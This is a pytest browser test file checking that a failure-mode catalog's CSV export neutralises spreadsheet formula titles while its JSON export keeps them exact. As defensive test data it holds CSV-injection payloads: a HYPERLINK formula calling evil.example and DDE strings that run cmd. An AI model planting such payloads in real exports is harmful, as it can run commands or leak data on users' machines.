"""The catalog's CSV and JSON downloads, in a real headless Chromium.

The files are built in the browser from the rows the reader sees. Titles are
contributed text, so two entries get titles that a spreadsheet would run as
formulas (CSV injection, OWASP): the CSV must neutralise them, the JSON must
keep them exact.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.conftest import FIXTURE, build_site, serve_site, site_config_text

pytestmark = [pytest.mark.browser, pytest.mark.slow]

FORMULA = '=HYPERLINK("http://evil.example/?q=1","Click, me")'
PLUS = "+cmd|' /C calc'!A0 prior shift"
TITLES = {"FM-0001": FORMULA, "FM-0002": PLUS}


def _retitle(path: Path, title: str) -> None:
    lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
    at = next(i for i, line in enumerate(lines) if line.startswith("title:"))
    lines[at] = f"title: {json.dumps(title)}\n"  # JSON is YAML: the title stays exact
    path.write_text("".join(lines), encoding="utf-8")


@pytest.fixture(scope="module")
def hostile_catalog(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    dest = tmp_path_factory.mktemp("export") / "catalog"
    shutil.copytree(FIXTURE, dest)
    (dest / "mkdocs.yml").write_text(site_config_text(), encoding="utf-8")
    _retitle(dest / "entries" / "FM-0001-covariate-shift.md", FORMULA)
    _retitle(dest / "entries" / "FM-0002-prior-shift.md", PLUS)
    server, url = serve_site(build_site(dest))
    yield url + "failure-modes/"
    server.shutdown()
    server.server_close()


@pytest.fixture
def tab(browser: object) -> Iterator[object]:
    context = browser.new_context(accept_downloads=True)  # type: ignore[attr-defined]
    page = context.new_page()
    errors: list[str] = []
    page.on("pageerror", lambda e: errors.append(str(e)))
    yield page
    assert errors == []
    context.close()


def _visible_ids(tab: object) -> list[str]:
    ids: list[str] = tab.locator(  # type: ignore[attr-defined]
        "#fmcat-catalog tbody tr:not([hidden])").evaluate_all(
        "rows => rows.map(r => r.dataset.id)")
    return ids


def _download(tab: object, name: str, *, keyboard: str | None = None) -> tuple[str, str]:
    button = tab.get_by_role("button", name=name)  # type: ignore[attr-defined]
    with tab.expect_download() as info:  # type: ignore[attr-defined]
        if keyboard:
            button.focus()
            tab.keyboard.press(keyboard)  # type: ignore[attr-defined]
        else:
            button.click()
    download = info.value
    return download.suggested_filename, Path(download.path()).read_bytes().decode("utf-8")


def _csv_rows(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff")  # so spreadsheets read UTF-8
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


def test_csv_holds_the_visible_rows_with_formulas_neutralised(tab: object,
                                                             hostile_catalog: str) -> None:
    tab.goto(hostile_catalog)  # type: ignore[attr-defined]
    tab.select_option("select[name=severity]", "high")  # type: ignore[attr-defined]
    visible = _visible_ids(tab)
    assert visible == ["FM-0001"]
    name, text = _download(tab, "Download CSV")
    assert name == "fmcat-catalog.csv"
    rows = _csv_rows(text)
    assert [row["ID"] for row in rows] == visible
    assert rows[0]["Title"] == "'" + FORMULA
    assert rows[0]["URL"].endswith("/failure-modes/FM-0001/")
    assert rows[0]["Severity"] == "high"
    assert "\r\n" in text  # RFC 4180 line ends


def test_json_holds_the_visible_rows_in_their_order_with_titles_exact(
        tab: object, hostile_catalog: str) -> None:
    tab.goto(hostile_catalog + "?sort=title")  # type: ignore[attr-defined]
    visible = _visible_ids(tab)
    assert visible == ["FM-0002", "FM-0001"]  # "+" sorts before "=": not ID order
    name, text = _download(tab, "Download JSON")
    assert name == "fmcat-catalog.json"
    records = json.loads(text)
    assert [r["id"] for r in records] == visible
    assert {r["id"]: r["title"] for r in records} == TITLES
    assert records[0]["observed"] == 1 and isinstance(records[0]["stages"], list)
    _, csv_text = _download(tab, "Download CSV")
    by_id = {row["ID"]: row["Title"] for row in _csv_rows(csv_text)}
    assert by_id == {"FM-0001": "'" + FORMULA, "FM-0002": "'" + PLUS}


def test_downloads_work_from_the_keyboard(tab: object, hostile_catalog: str) -> None:
    tab.goto(hostile_catalog)  # type: ignore[attr-defined]
    tab.fill("input[name=q]", "prior")  # type: ignore[attr-defined]
    tab.keyboard.press("Tab")  # type: ignore[attr-defined]
    tab.keyboard.press("Tab")  # type: ignore[attr-defined]
    focused = tab.evaluate("document.activeElement.textContent")  # type: ignore[attr-defined]
    assert focused.strip() == "Download CSV"
    _, text = _download(tab, "Download CSV", keyboard="Enter")
    assert [row["ID"] for row in _csv_rows(text)] == ["FM-0002"]
    _, text = _download(tab, "Download JSON", keyboard="Space")
    assert [r["id"] for r in json.loads(text)] == ["FM-0002"]
    described = tab.get_by_role("button", name="Download JSON").get_attribute(  # type: ignore[attr-defined]
        "aria-describedby")
    assert tab.locator(f"#{described}").inner_text() == "1 of 2 failure modes"  # type: ignore[attr-defined]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised_in_csv_only(tab: object, hostile_catalog: str,
                                                        start: str) -> None:
    tab.goto(hostile_catalog)  # type: ignore[attr-defined]
    # Any text the table shows, as if a title began so (titles are stripped on
    # load, and so are cells on export: a tab or CR before "=" must not hide it).
    value = start + "=cmd|' /C calc'!A0"
    tab.evaluate(  # type: ignore[attr-defined]
        "s => document.querySelector('#fmcat-catalog tbody tr td:nth-child(2) a')"
        ".textContent = s", value)
    _, text = _download(tab, "Download CSV")
    assert _csv_rows(text)[0]["Title"] == "'" + value.strip()
    _, text = _download(tab, "Download JSON")
    assert json.loads(text)[0]["title"] == value.strip()
